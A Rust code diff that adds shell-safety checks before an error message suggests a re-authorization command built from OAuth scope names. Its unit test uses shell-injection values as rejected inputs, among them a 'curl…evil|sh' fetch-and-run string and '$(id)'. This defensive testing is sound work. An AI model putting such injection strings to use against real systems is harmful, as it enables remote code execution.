@@ -19,6 +19,17 @@ impl Workspace {
         error: ToolError,
     ) -> ToolError {
         let Some(connection) = &bound.connection else { return error };
+        if matches!(error.status, Some(401 | 403))
+            && let Some(method) = self.outdated_method(connection)
+        {
+            let (source, name) = (&connection.source, &connection.name);
+            let message = format!(
+                "{}; {source} declares by now that {method:?} is placed otherwise than when the connection \
+                 {name} was added: remove it and add it again, if that is right",
+                error.message
+            );
+            return ToolError { message, ..error };
+        }
         let Some(grant) = Grant::read(connection.oauth.as_deref()) else { return error };
         let again = format!("executor connections authorize {} {}", connection.source, connection.name);
         match error.status {
@@ -42,12 +53,18 @@ impl Workspace {
                     scopes.iter().map(|scope| scope.as_str()).collect::<Vec<_>>().join(", ")
                 };
                 let (lacks, holds) = (list(&missing), list(&held.iter().collect::<Vec<_>>()));
-                let flags: Vec<String> = missing.iter().map(|scope| format!("--scope {scope}")).collect();
+                let holds = if holds.is_empty() { "none" } else { &holds };
+                // A command is offered only where a shell takes it as it stands.
+                let plain = missing.iter().all(|scope| is_plain(scope));
+                let asks = if plain {
+                    let flags: Vec<String> = missing.iter().map(|scope| format!("--scope {scope}")).collect();
+                    format!("`{again} {}` asks for it", flags.join(" "))
+                } else {
+                    format!("`{again} --scope …` asks for it")
+                };
                 let message = format!(
-                    "{}; the connection lacks the scope {lacks} and holds {}: `{again} {}` asks for it",
-                    error.message,
-                    if holds.is_empty() { "none" } else { &holds },
-                    flags.join(" ")
+                    "{}; the connection lacks the scope {lacks} and holds {holds}: {asks}",
+                    error.message
                 );
                 let details =
                     json!({ "missing_scopes": missing, "held_scopes": held, "upstream": error.details });
@@ -56,6 +73,12 @@ impl Workspace {
             _ => error,
         }
     }
+}
+
+/// Whether a scope means nothing else to a shell.
+fn is_plain(scope: &str) -> bool {
+    scope.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"._:/-+@%,=_".contains(&byte))
+        && !scope.starts_with('-')
 }
 
 /// A parameter of a challenge: `Bearer error="…", scope="a b"`.
@@ -80,6 +103,16 @@ fn parameter(challenge: &str, name: &str) -> Option<String> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_command_holds_what_a_shell_leaves_alone() {
+        for scope in ["repo", "read:org", "https://www.googleapis.com/auth/drive", "user.read", "a-b_c"] {
+            assert!(is_plain(scope), "{scope}");
+        }
+        for scope in ["x;curl${IFS}evil|sh", "`id`", "$(id)", "-x", "a'b", "a\"b", "~", "a&b"] {
+            assert!(!is_plain(scope), "{scope}");
+        }
+    }
 
     #[test]
     fn challenges_name_scopes() {
